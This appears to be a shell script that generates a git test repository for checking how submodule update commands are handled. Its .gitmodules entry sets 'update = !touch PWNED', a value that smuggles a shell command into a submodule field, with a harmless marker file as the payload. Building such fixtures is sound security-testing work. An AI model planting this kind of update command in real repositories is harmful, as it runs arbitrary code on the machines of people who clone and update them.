#!/bin/sh
# Builds a small repository. Usage: sh NAME.sh DIR (prints notes on stdout)
set -eu
D=${1:?directory}; rm -rf "$D"; mkdir -p "$D"; cd "$D"
export GIT_CONFIG_GLOBAL=/dev/null GIT_CONFIG_NOSYSTEM=1
export GIT_AUTHOR_NAME=Case GIT_AUTHOR_EMAIL=case@example.invalid GIT_COMMITTER_NAME=Case GIT_COMMITTER_EMAIL=case@example.invalid
export GIT_AUTHOR_DATE="2026-01-02T03:04:05Z" GIT_COMMITTER_DATE="2026-01-02T03:04:05Z"
git init -q -b main .
echo a > a.md; printf '[submodule "lib"]\n\tpath = vendor/lib\n\turl = file:///nonexistent/lib\n\tupdate = !touch PWNED\n' > .gitmodules
git add -A; git update-index --add --cacheinfo 160000,1111111111111111111111111111111111111111,vendor/lib; git commit -qm one; git rev-parse HEAD; git ls-tree -r HEAD
